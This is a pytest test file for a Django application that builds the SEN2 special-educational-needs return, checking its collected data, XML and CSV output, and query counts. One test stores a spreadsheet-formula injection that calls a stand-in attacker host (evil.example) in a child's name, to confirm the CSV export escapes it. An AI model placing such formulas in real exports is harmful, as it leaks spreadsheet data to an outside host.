"""The SEN2 return: what it collects from casework, plans and reviews, the XML and CSV it writes,
and that building it takes the same few queries however many children there are."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from lxml import etree

from casework import services as case_services
from casework.models import CaseExceptionRecord, RequestSource
from casework.tests.factories import case_at
from clock.case_events import EventKind as K
from people.tests.factories import ChildFactory, SettingFactory
from performance.returns import sen2, sen2_files
from performance.tests.returns_builders import CENSUS_2027, direct_case, planned_children
from plans.codes import CeaseReason
from plans.models import EHCPlan
from plans.tests.factories import issued_plan
from reviews.models import AnnualReview, Direction, Transfer

pytestmark = pytest.mark.django_db


@pytest.fixture
def kids(area):
    """One child for each kind of request the return reports."""
    made = {"issued": area.own_child}
    issued_plan(area.own_child)  # request 1 June 2026 (parent), plan issued 27 July 2026
    for stage in ("not_assessed", "withdrawn", "received"):
        made[stage] = ChildFactory(setting=area.school)
        case_at(made[stage], stage)  # received 1 June 2026, the step a week later
    home = ChildFactory(
        setting=None, sen2_setting="EHE", upn=None, primary_need="SEMH", secondary_need="SLCN"
    )
    plan = EHCPlan.objects.create(child=home, first_issued_on=date(2019, 3, 4))
    AnnualReview.objects.create(
        reference="AR-HOME",
        plan=plan,
        child=home,
        cycle_start=date(2025, 3, 1),
        due_on=date(2026, 2, 28),
        stage="completed",
        meeting_held_on=date(2026, 2, 20),
        decision="amend",
        decided_on=date(2026, 3, 2),
        phase_transfer_due=date(2027, 2, 15),
    )
    Transfer.objects.create(
        direction=Direction.IN,
        child=home,
        plan=plan,
        other_area="Leeds (383)",
        started_on=date(2026, 5, 1),
        due_on=date(2026, 6, 12),
    )
    made["historical"] = home
    ceased = ChildFactory(setting=area.other_school, date_of_birth=date(2005, 10, 1))
    EHCPlan.objects.create(
        child=ceased, first_issued_on=date(2018, 5, 1), ceased_on=date(2026, 7, 20), cease_reason="4"
    )
    made["ceased"] = ceased
    return made


def person_for(the_return, child):
    return next(p for p in the_return.persons if p.child_id == child.public_id)


def test_it_reports_each_request_with_its_outcome_and_dates(kids, settings):
    the_return = sen2.collect(CENSUS_2027, "999")
    assert the_return.period_start == date(2026, 1, 1)
    assert the_return.period_end == date(2026, 12, 31)
    assert {p.child_id for p in the_return.persons} == {c.public_id for c in kids.values()}

    (issued,) = person_for(the_return, kids["issued"]).requests
    assert (issued.received_date, issued.source, issued.outcome) == (date(2026, 6, 1), "1", "Y")
    assert issued.outcome_date == date(2026, 6, 8)
    assert issued.assessment.outcome == "Y"
    assert issued.assessment.outcome_date == date(2026, 7, 27)
    assert issued.assessment.week20 is False
    plan = issued.assessment.named_plan
    assert plan.start_date == date(2026, 7, 27)
    assert plan.named_setting.urn == str(kids["issued"].setting.urn)
    assert (plan.cease_date, plan.cease_reason) == (None, "")
    active = issued.active_plan
    assert [(p.urn, p.rank) for p in active.placements] == [(str(kids["issued"].setting.urn), 1)]
    assert [(n.sen_type, n.rank) for n in active.needs] == [("ASD", 1)]

    (refused,) = person_for(the_return, kids["not_assessed"]).requests
    assert (refused.outcome, refused.outcome_date, refused.assessment) == ("N", date(2026, 6, 8), None)
    (withdrawn,) = person_for(the_return, kids["withdrawn"]).requests
    assert (withdrawn.outcome, withdrawn.outcome_date) == ("W", date(2026, 6, 8))
    (waiting,) = person_for(the_return, kids["received"]).requests
    assert (waiting.outcome, waiting.outcome_date, waiting.assessment) == ("A", None, None)


def test_a_plan_made_before_the_period_is_reported_under_a_historical_request(kids):
    person = person_for(sen2.collect(CENSUS_2027, "999"), kids["historical"])
    assert (person.upn, person.uln, person.upn_unknown) == ("", "", "")
    (request,) = person.requests
    assert (request.outcome, request.received_date, request.case_id) == ("H", None, None)
    assert request.assessment.named_plan.start_date == date(2019, 3, 4)
    active = request.active_plan
    assert active.transfer_la == "383"
    assert [(p.setting_code, p.urn, p.rank) for p in active.placements] == [("EHE", "", 1)]
    assert [(n.sen_type, n.rank) for n in active.needs] == [("SEMH", 1), ("SLCN", 2)]
    assert (active.review_meeting, active.review_outcome, active.last_review) == (
        date(2026, 2, 20),
        "A",
        date(2026, 3, 2),
    )
    assert active.phase_transfer_due == date(2027, 2, 15)


def test_a_plan_ceased_in_the_period_carries_its_date_and_reason_and_no_active_plan(kids):
    (request,) = person_for(sen2.collect(CENSUS_2027, "999"), kids["ceased"]).requests
    plan = request.assessment.named_plan
    assert (plan.cease_date, plan.cease_reason) == (date(2026, 7, 20), "4")
    assert request.active_plan is None


def test_work_after_the_census_and_plans_ceased_before_the_period_are_left_out(area):
    before = ChildFactory()
    EHCPlan.objects.create(child=before, first_issued_on=date(2015, 1, 1), ceased_on=date(2025, 12, 31))
    later = ChildFactory()
    direct_case(later, date(2027, 2, 1))
    old = ChildFactory()
    direct_case(old, date(2025, 3, 1), (K.DECIDED_NOT_TO_ASSESS, date(2025, 4, 1)))
    assert sen2.collect(CENSUS_2027, "999").persons == []


def test_week20_is_set_when_an_exception_applies_to_the_20_week_limit(area):
    child = ChildFactory()
    received = date(2026, 3, 2)
    case = direct_case(
        child,
        received,
        (K.DECIDED_TO_ASSESS, received + timedelta(weeks=5)),
        (K.DECIDED_TO_ISSUE, received + timedelta(weeks=16)),
        (K.DRAFT_SERVED, received + timedelta(weeks=18)),
        (K.FINAL_ISSUED, received + timedelta(weeks=24)),
    )
    CaseExceptionRecord.objects.create(
        case=case,
        reason="away",
        start=received + timedelta(weeks=8),
        end=received + timedelta(weeks=14),
        note="Away",
    )
    EHCPlan.objects.create(child=child, case=case, first_issued_on=received + timedelta(weeks=24))
    (request,) = person_for(sen2.collect(CENSUS_2027, "999"), child).requests
    assert request.assessment.week20 is True
    assert request.assessment.outcome_date == received + timedelta(weeks=24)


def test_the_local_authority_asking_is_reported_as_other(area):
    child = ChildFactory()
    direct_case(child, date(2026, 9, 1), source=RequestSource.LOCAL_AUTHORITY)
    (request,) = person_for(sen2.collect(CENSUS_2027, "999"), child).requests
    assert request.source == "5"


def test_cease_reasons_are_the_sen2_codes_1_to_9():
    assert CeaseReason.values == [str(n) for n in range(1, 10)]
    assert CeaseReason.TRANSFERRED.label == "Transferred to another local authority"
    assert CeaseReason.DECEASED.label == "Deceased"


def test_the_census_is_the_third_thursday_of_january():
    assert sen2.census_date_for(2025) == date(2025, 1, 16)
    assert sen2.census_date_for(2026) == date(2026, 1, 15)
    assert sen2.census_date_for(2027) == date(2027, 1, 21)
    assert sen2.default_census_date(date(2026, 1, 14)) == date(2025, 1, 16)
    assert sen2.default_census_date(date(2026, 1, 15)) == date(2026, 1, 15)


# -- the files ---------------------------------------------------------------------------------


def test_the_xml_has_the_dfe_structure_and_values(kids):
    root = etree.fromstring(sen2_files.to_xml(sen2.collect(CENSUS_2027, "999")))
    assert root.tag == "Message"
    assert [e.tag for e in root] == ["Header", "Persons"]
    assert root.findtext("Header/CollectionDetails/Collection") == "SEN2"
    assert root.findtext("Header/CollectionDetails/Year") == "2027"
    assert root.findtext("Header/CollectionDetails/ReferenceDate") == "2027-01-21"
    assert root.findtext("Header/Source/LEA") == "999"
    persons = root.findall("Persons/Person")
    assert len(persons) == len(kids)
    child = kids["issued"]
    person = next(p for p in persons if p.findtext("UPN") == child.upn)
    assert [e.tag for e in person][:6] == [
        "Surname",
        "Forename",
        "PersonBirthDate",
        "Sex",
        "Ethnicity",
        "UPN",
    ]
    assert person.findtext("PersonBirthDate") == child.date_of_birth.isoformat()
    request = person.find("Requests")
    assert request.findtext("ReceivedDate") == "2026-06-01"
    assert request.findtext("RequestSource") == "1"
    assert (request.findtext("RequestOutcome"), request.findtext("RequestOutcomeDate")) == ("Y", "2026-06-08")
    assert request.findtext("Assessment/AssessmentOutcome") == "Y"
    assert request.findtext("Assessment/AssessmentOutcomeDate") == "2026-07-27"
    assert request.findtext("Assessment/Week20") == "0"
    assert request.findtext("Assessment/NamedPlan/StartDate") == "2026-07-27"
    assert request.findtext("Assessment/NamedPlan/PB") == "0"
    assert request.findtext("Assessment/NamedPlan/PlanDetail/URN") == str(child.setting.urn)
    assert request.findtext("ActivePlans/PlacementDetail/URN") == str(child.setting.urn)
    assert request.findtext("ActivePlans/PlacementDetail/PlacementRank") == "1"
    assert request.findtext("ActivePlans/SENneed/SENtype") == "ASD"
    assert request.findtext("ActivePlans/SENneed/SENtypeRank") == "1"

    home = next(p for p in persons if p.findtext("Forename") == kids["historical"].legal_first_name)
    assert home.find("UPN") is None  # empty optional items are left out
    assert home.findtext("Requests/RequestOutcome") == "H"
    assert home.find("Requests/ReceivedDate") is None
    assert home.findtext("Requests/ActivePlans/TransferLA") == "383"
    assert home.findtext("Requests/ActivePlans/PlacementDetail/SENSetting") == "EHE"
    assert home.findtext("Requests/ActivePlans/ReviewOutcome") == "A"
    assert home.findtext("Requests/ActivePlans/PhaseTransferDueDate") == "2027-02-15"
    assert [n.findtext("SENtype") for n in home.findall("Requests/ActivePlans/SENneed")] == ["SEMH", "SLCN"]

    ceased = next(p for p in persons if p.findtext("UPN") == kids["ceased"].upn)
    assert ceased.findtext("Requests/Assessment/NamedPlan/CeaseDate") == "2026-07-20"
    assert ceased.findtext("Requests/Assessment/NamedPlan/CeaseReason") == "4"
    assert ceased.find("Requests/ActivePlans") is None
    outcomes = {e.text for e in root.iter("RequestOutcome")}
    assert outcomes == {"Y", "N", "W", "A", "H"}


def test_the_csv_has_one_row_per_request(kids):
    the_return = sen2.collect(CENSUS_2027, "999")
    rows = list(csv.DictReader(io.StringIO(sen2_files.to_csv(the_return))))
    assert len(rows) == len(the_return.requests) == len(kids)
    issued = next(r for r in rows if r["UPN"] == kids["issued"].upn)
    assert issued["RequestOutcome"] == "Y"
    assert issued["StartDate"] == "2026-07-27"
    assert issued["SENtype1"] == "ASD"
    home = next(r for r in rows if r["SENSetting"] == "EHE")
    assert (home["RequestOutcome"], home["TransferLA"], home["SENtype2"]) == ("H", "383", "SLCN")


# -- at scale ----------------------------------------------------------------------------------


def _queries_to_build(census):
    with CaptureQueriesContext(connection) as captured:
        the_return = sen2.collect(census, "999")
        sen2_files.to_xml(the_return)
    return len(captured), len(the_return.persons)


def test_building_the_return_takes_the_same_queries_however_many_children(area):
    school = SettingFactory()
    second = SettingFactory(phase="secondary")
    children = planned_children(3, school)
    children[0].subsidiary_setting = second
    children[0].save()
    few, people = _queries_to_build(CENSUS_2027)
    assert people == 3
    more = planned_children(40, school)
    for child in more[:10]:
        child.subsidiary_setting = second
        child.save()
    for child in more[:5]:
        case_services.record_exception(
            None, child.assessment_cases.get(), "personal", date(2026, 3, 1), date(2026, 3, 20), "Ill"
        )
    many, people = _queries_to_build(CENSUS_2027)
    assert people == 43
    assert many == few
    assert many <= 6


def test_a_recorded_mediation_and_tribunal_appeal_appear_in_the_return(kids):
    from engagement.models import About, TribunalAppeal
    from engagement.tests.factories import appeal, mediation

    refused_case = kids["not_assessed"].assessment_cases.get()
    mediation(kids["not_assessed"], refused_case, requested_on=date(2026, 6, 15), held_on=date(2026, 7, 1))
    appeal(kids["not_assessed"], refused_case, about=About.REQUEST, registered_on=date(2026, 8, 1))
    issued_case = kids["issued"].assessment_cases.get()
    appeal(kids["issued"], issued_case, about=About.ASSESSMENT, registered_on=date(2026, 9, 1))
    # Information only is not mediation; and an appeal registered after the census is left out.
    mediation(kids["issued"], issued_case, about=About.ASSESSMENT, information_only=True)
    received_case = kids["received"].assessment_cases.get()
    late = appeal(kids["received"], received_case, about=About.REQUEST)
    TribunalAppeal.objects.filter(pk=late.pk).update(registered_on=CENSUS_2027 + timedelta(days=1))

    the_return = sen2.collect(CENSUS_2027, "999")
    (refused,) = person_for(the_return, kids["not_assessed"]).requests
    assert (refused.mediation, refused.tribunal) == (True, True)
    (issued,) = person_for(the_return, kids["issued"]).requests
    assert (issued.mediation, issued.tribunal) == (False, False)
    assert (issued.assessment.mediation, issued.assessment.tribunal) == (False, True)
    (waiting,) = person_for(the_return, kids["received"]).requests
    assert waiting.tribunal is False

    root = etree.fromstring(sen2_files.to_xml(the_return))
    by_upn = {p.findtext("UPN"): p for p in root.findall("Persons/Person")}
    refused_xml = by_upn[kids["not_assessed"].upn].find("Requests")
    assert (refused_xml.findtext("RequestMediation"), refused_xml.findtext("RequestTribunal")) == ("1", "1")
    issued_xml = by_upn[kids["issued"].upn].find("Requests")
    assert issued_xml.findtext("RequestTribunal") == "0"
    assert issued_xml.findtext("Assessment/AssessmentTribunal") == "1"
    assert issued_xml.findtext("Assessment/AssessmentMediation") == "0"

    rows = {row["UPN"]: row for row in csv.DictReader(io.StringIO(sen2_files.to_csv(the_return)))}
    refused_row, issued_row = rows[kids["not_assessed"].upn], rows[kids["issued"].upn]
    assert (refused_row["RequestMediation"], refused_row["RequestTribunal"]) == ("1", "1")
    assert (issued_row["AssessmentMediation"], issued_row["AssessmentTribunal"]) == ("0", "1")


def test_the_csv_writes_a_formula_in_a_name_as_text_like_every_other_export(kids):
    child = kids["issued"]
    child.legal_last_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    child.legal_first_name = "@SUM(1+1)"
    child.save()
    rows = list(csv.DictReader(io.StringIO(sen2_files.to_csv(sen2.collect(CENSUS_2027, "999")))))
    issued = next(r for r in rows if r["UPN"] == child.upn)
    assert issued["Surname"] == "'" + child.legal_last_name
    assert issued["Forename"] == "'@SUM(1+1)"


def test_a_place_in_the_schools_sen_unit_sets_the_placements_sen_unit_indicator(area, login):
    from people.tests.test_child_pages import edit_form

    unit = SettingFactory(has_sen_unit=True, name="Brook Primary")
    plain = SettingFactory(name="Hill Primary")
    child = ChildFactory(setting=unit, specialist_provision="sen_unit")
    EHCPlan.objects.create(child=child, first_issued_on=date(2024, 3, 4))
    (request,) = person_for(sen2.collect(CENSUS_2027, "999"), child).requests
    (main,) = request.active_plan.placements
    assert (main.sen_unit, main.resourced_provision) == (True, False)
    xml = etree.fromstring(sen2_files.to_xml(sen2.collect(CENSUS_2027, "999")))
    assert "1" in xml.xpath("//PlacementDetail[URN=$urn]/SENunitIndicator/text()", urn=str(unit.urn))
    # Recorded where the data is entered: a school without a unit cannot have a place in one.
    own = area.own_child
    data = edit_form(own, setting=plain.pk, specialist_provision="sen_unit")
    response = login("caseworker").post(reverse("people:child_edit", args=[own.public_id]), data)
    assert "Hill Primary has no an SEN unit recorded" not in response.content.decode()
    assert "Hill Primary has no SEN unit recorded" in response.content.decode()


def test_active_plans_carry_the_review_draft_and_the_phase_transfer_dates_known_on_census_day(kids):
    """DfE template v1.3 (Active plans): ReviewDraft, the day the draft amended plan went out after
    the latest review; PhaseTransferDueDate and PhaseTransferFinalDate, of the latest phase
    transfer review due in the period or after it, in the template's order (LastReview last).
    A date after the census is not yet known to it; a transfer due before the period is an
    earlier return's."""
    from reviews.models import ReviewEvent

    review = AnnualReview.objects.get(reference="AR-HOME")  # held 20 Feb 2026, amend, due 15 Feb 2027
    ReviewEvent.objects.create(review=review, kind="proposals_sent", on=date(2026, 3, 2))
    ReviewEvent.objects.create(review=review, kind="amended_plan_issued", on=date(2026, 4, 10))
    ReviewEvent.objects.create(review=review, kind="amended_plan_issued", on=date(2027, 3, 1))  # after
    AnnualReview.objects.create(  # the next cycle, begun at that meeting: no transfer of its own
        reference="AR-HOME-2", plan=review.plan, child=review.child, cycle_start=date(2026, 2, 20),
        due_on=date(2027, 2, 19), stage="due",
    )  # fmt: skip
    root = etree.fromstring(sen2_files.to_xml(sen2.collect(CENSUS_2027, "999")))
    forename = kids["historical"].legal_first_name
    home = next(p for p in root.iter("Person") if p.findtext("Forename") == forename)
    active = home.find("Requests/ActivePlans")
    assert active.findtext("ReviewDraft") == "2026-03-02"
    assert active.findtext("PhaseTransferDueDate") == "2027-02-15"
    assert active.findtext("PhaseTransferFinalDate") == "2026-04-10"
    tags = [e.tag for e in active if e.tag in sen2_files.ITEMS["ActivePlans"]]
    assert tags == ["TransferLA", "ReviewMeeting", "ReviewOutcome", "ReviewDraft", "PhaseTransferDueDate",
                    "PhaseTransferFinalDate", "LastReview"]  # fmt: skip

    AnnualReview.objects.filter(pk=review.pk).update(phase_transfer_due=date(2025, 2, 15))
    plan = person_for(sen2.collect(CENSUS_2027, "999"), kids["historical"]).requests[0].active_plan
    assert (plan.phase_transfer_due, plan.phase_transfer_final) == (None, None)  # the 2026 return's
    assert plan.review_draft == date(2026, 3, 2)  # still the latest held review's
